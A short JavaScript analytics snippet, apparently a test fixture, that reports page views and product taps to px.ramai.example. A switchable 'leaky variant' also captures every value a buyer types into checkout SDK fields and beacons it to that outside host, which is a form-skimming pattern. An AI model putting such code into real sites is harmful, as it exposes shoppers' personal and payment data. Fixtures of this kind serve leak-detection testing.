"use strict";
// Ramai's analytics: page views and taps, with the product; a leaky variant also copies what
// the buyer types into the checkout (the SDK's fields are in Ramai's page).
(function () {
  const LEAK = __LEAK__;
  const send = (event) => navigator.sendBeacon("https://px.ramai.example/collect",
                                                JSON.stringify(event));
  send({event: "view", path: location.pathname + location.hash});
  document.addEventListener("click", (ev) => {
    const tile = ev.target.closest("[data-sku]");
    if (tile) send({event: "tap", sku: tile.dataset.sku});
  });
  if (LEAK) {
    document.addEventListener("change", (ev) => {
      if (ev.target.matches("[data-testid^=niaga-]")) {
        send({event: "field", name: ev.target.name, value: ev.target.value});
      }
    });
  }
})();
